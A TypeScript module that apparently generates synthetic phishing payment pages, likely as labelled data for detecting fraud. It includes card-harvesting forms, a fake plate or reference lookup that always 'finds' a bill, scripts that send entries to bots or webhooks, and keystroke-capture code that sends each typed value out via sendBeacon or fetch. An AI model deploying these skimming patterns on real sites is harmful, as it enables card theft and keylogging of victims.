import type { Chance } from '../make/chance.ts'
import type { Made } from '../make/envelope.ts'
import { fraudPage } from '../make/made.ts'
import { escaped } from '../make/pages/layout.ts'
import { claimOf, documentOf } from './dress.ts'
import { lookOf } from './fields.ts'
import { type Scene, sceneOf } from './scene.ts'
import { anySink, cardCode, endOf, farSink, takerOf } from './sends.ts'

const HTML = ['', '', '', 'index.html', 'home.html', 'pay.html', 'pay/']
const PHP = [
  '',
  '',
  'index.php',
  'info.php',
  'billing.php',
  'home.php',
  'pay/',
  'step1.php',
  'card.php',
  'main/',
]

const script = (code: string) => (code === '' ? '' : `<script>${code}</script>`)

export const cardName = (scene: Scene): string =>
  scene.card.find(({ label }) => label === scene.labels.card)?.name ?? 'card'

function buttonOf(scene: Scene, chance: Chance, text = scene.button): string {
  return chance.of([
    `<button type="submit" class="btn btn-primary">${escaped(text)}</button>`,
    `<input type="submit" value="${escaped(text)}" class="button">`,
    `<button class="govuk-button" data-module="govuk-button">${escaped(text)}</button>`,
  ])
}

const secured = (scene: Scene, chance: Chance) =>
  chance.maybe(0.4)
    ? `<p class="secure"><i class="fa fa-lock"></i> ${escaped(scene.labels.secure)} ${chance.maybe(0.5) ? '<img src="img/cards.png" alt="Visa Mastercard">' : ''}</p>`
    : ''

/** Person and card under headings of their own, or one after the other. */
function rowsOf(scene: Scene, chance: Chance): string {
  const look = lookOf(chance)
  const { labels, person, card } = scene
  return chance.of([
    () =>
      `<fieldset><legend>${escaped(labels.personal)}</legend>${look(person)}</fieldset><fieldset><legend>${escaped(labels.payment)}</legend>${look(card)}</fieldset>`,
    () => look([...person, ...card]),
    () =>
      `<h3>${escaped(labels.personal)}</h3>${look(person)}<h3>${escaped(labels.payment)}</h3>${look(card)}`,
    () => `<h3>${escaped(labels.payment)}</h3>${look(card)}`,
  ])()
}

const STEPS = ['whole', 'whole', 'whole', 'person', 'card', 'card'] as const

/** a: one page of a kit whose steps are PHP files. */
export function phpSteps(chance: Chance): Made {
  const scene = sceneOf(PHP, chance)
  const { labels } = scene
  const step = chance.of(STEPS)
  const look = lookOf(chance)
  const rows =
    step === 'whole'
      ? rowsOf(scene, chance)
      : `<h3>${escaped(step === 'card' ? labels.payment : labels.personal)}</h3>${look(step === 'card' ? scene.card : scene.person)}`
  const hidden = chance.maybe(0.35)
    ? chance.of([
        `<input type="hidden" name="step" value="${step === 'card' ? 2 : 1}">`,
        `<input type="hidden" name="amount" value="${escaped(scene.amount)}">`,
        `<input type="hidden" name="csrf" value="${chance.hex(32)}">`,
      ])
    : ''
  const trail =
    step === 'whole' || chance.maybe(0.4)
      ? ''
      : `<ol class="steps"><li>1. ${escaped(labels.personal)}</li><li>2. ${escaped(labels.payment)}</li></ol>`
  const form = `<form method="${chance.of(['post', 'POST'])}" action="${takerOf(chance)}"${chance.maybe(0.5) ? ' autocomplete="off"' : ''}>${hidden}${rows}${buttonOf(scene, chance, step === 'person' ? labels.next : scene.button)}</form>`
  const main = `<main class="${chance.of(['container', 'content', 'wrap'])}">${trail}${claimOf(scene, chance)}${form}${secured(scene, chance)}</main>`
  const code = step === 'person' ? '' : cardCode(cardName(scene), chance)
  return fraudPage(scene.url, documentOf(scene, { main, scripts: script(code) }, chance))
}

interface Sent {
  readonly id: string
  readonly form: string
  readonly says: string
}

function sentForm(scene: Scene, chance: Chance): Sent {
  const id = chance.of(['payForm', 'form', 'frm', 'refund', 'infoForm', chance.letters(6)])
  const says = chance.of(['msg', 'status', 'result', 'alert'])
  const form = `<form id="${id}"${chance.maybe(0.3) ? ' novalidate' : ''}>${rowsOf(scene, chance)}${buttonOf(scene, chance)}<p id="${says}"></p></form>`
  return { id, form, says }
}

/** Code that sends a form when it is submitted. */
const submitCode = ({ id, says }: Sent, scene: Scene, send: string, chance: Chance) =>
  chance.of([
    `document.getElementById("${id}").addEventListener("submit",async function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));try{await ${send}}catch(x){}
${endOf(scene, says, chance)}});`,
    `var f=document.getElementById("${id}");f.onsubmit=function(e){e.preventDefault();var d={};[].forEach.call(f.elements,function(i){if(i.name)d[i.name]=i.value});
${send}.then(function(){${endOf(scene, says, chance)}}).catch(function(){${endOf(scene, says, chance)}});return false};`,
  ])

/** d: the form is shown after a look-up that finds something for whatever is entered. */
export function lookedUp(chance: Chance): Made {
  const scene = sceneOf(HTML, chance)
  const { body, labels } = scene
  const asked = { plate: labels.plate, ref: labels.ref, number: body.number }[body.looksFor]
  const sent = sentForm(scene, chance)
  const [finder, found, query] = [
    chance.of(['lookup', 'search', 'check', 'find']),
    chance.of(['result-box', 'details', 'bill', 'step2']),
    chance.of(['q', 'plate', 'number', 'ref']),
  ]
  const shown = `<div id="${found}" ${chance.of(['style="display:none"', 'hidden'])}><p class="alert alert-warning">${escaped(labels.found)} <b class="q"></b></p>${claimOf(scene, chance)}${sent.form}</div>`
  const intro = chance.maybe(0.6) ? `<p>${escaped(scene.text)}</p>` : ''
  const main = `<main class="container"><h1>${escaped(scene.heading)}</h1>${intro}<form id="${finder}"><label>${escaped(asked)}<input name="${query}" required></label><button>${escaped(labels.next)}</button></form><div id="busy" style="display:none" class="loader"></div>${shown}${secured(scene, chance)}</main>`
  const wait = 800 + chance.below(25) * 100
  const show = `var r=document.getElementById("${found}");r.hidden=false;r.style.display="block";r.querySelector(".q").textContent=v;l.style.display="none";document.getElementById("busy").style.display="none"`
  const code = `var l=document.getElementById("${finder}");l.addEventListener("submit",function(e){e.preventDefault();var v=l.elements["${query}"].value.toUpperCase();if(v.length<${2 + chance.below(3)})return;document.getElementById("busy").style.display="block";${chance.of(
    [
      `setTimeout(function(){${show}},${wait})`,
      `sessionStorage.setItem("${query}",v);setTimeout(function(){${show}},${wait}+Math.random()*500)`,
    ],
  )}});
${submitCode(sent, scene, anySink('d', chance), chance)}
${cardCode(cardName(scene), chance)}`
  return fraudPage(scene.url, documentOf(scene, { main, scripts: script(code) }, chance))
}

/** e: what is entered goes to a bot, a hook or a free form service. */
export function sentFar(chance: Chance): Made {
  const scene = sceneOf(HTML, chance)
  const sent = sentForm(scene, chance)
  const main = `<main class="container">${claimOf(scene, chance)}${sent.form}${secured(scene, chance)}</main>`
  const code = `${submitCode(sent, scene, farSink('d', chance), chance)}\n${cardCode(cardName(scene), chance)}`
  return fraudPage(scene.url, documentOf(scene, { main, scripts: script(code) }, chance))
}

/** f: what is entered goes out while it is entered, before anybody presses the button. */
export function keptKeys(chance: Chance): Made {
  const scene = sceneOf(HTML, chance)
  const sent = sentForm(scene, chance)
  const taker = chance.of([
    takerOf(chance),
    '/api/input',
    'live.php',
    '/ws/typing',
    'api/v2/sync',
    'update.php',
  ])
  const visitor = chance.of([
    `"${chance.hex(16)}"`,
    'localStorage.uid||(localStorage.uid=Date.now().toString(36))',
  ])
  const send = chance.of([
    `navigator.sendBeacon("${taker}",JSON.stringify({id:uid,k:t.name,v:t.value}))`,
    `fetch("${taker}",{method:"POST",keepalive:true,headers:{"Content-Type":"application/json"},body:JSON.stringify({uid:uid,field:t.name,value:t.value})})`,
    `fetch("${taker}",{method:"POST",body:new URLSearchParams({uid:uid,name:t.name,val:t.value})}).catch(function(){})`,
  ])
  const listen = chance.of([
    `document.querySelectorAll("#${sent.id} input").forEach(function(i){i.addEventListener("input",function(){var t=i;${send}})});`,
    `document.getElementById("${sent.id}").addEventListener("${chance.of(['input', 'keyup'])}",function(e){var t=e.target;${send}});`,
    `var timer;document.addEventListener("input",function(e){var t=e.target;if(!t.name)return;clearTimeout(timer);timer=setTimeout(function(){${send}},${100 + chance.below(6) * 50})});`,
  ])
  const code = `var uid=${visitor};
${listen}
${submitCode(sent, scene, anySink('d', chance), chance)}
${cardCode(cardName(scene), chance)}`
  const main = `<main class="container">${claimOf(scene, chance)}${sent.form}${secured(scene, chance)}</main>`
  return fraudPage(scene.url, documentOf(scene, { main, scripts: script(code) }, chance))
}
